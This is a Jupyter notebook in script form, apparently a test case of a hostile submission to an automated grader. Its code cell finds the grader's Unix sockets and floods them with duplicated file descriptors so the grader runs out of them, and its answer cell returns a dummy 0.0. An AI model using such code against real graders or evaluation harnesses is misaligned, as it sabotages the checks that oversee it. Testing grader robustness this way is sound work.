# ---
# jupyter:
#   attack:
#     tries: Sends file descriptors over its line to the grader, so that the grader runs out of them.
# ---

# %%
import gc
import os
import socket

nothing = os.open("/dev/null", os.O_RDONLY)
for line in [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.family == socket.AF_UNIX]:
    for _ in range(50):
        try:
            socket.send_fds(line, [b"\0"], [nothing] * 200)
        except OSError:
            break


# %% answer="total"
def total(x):
    return 0.0
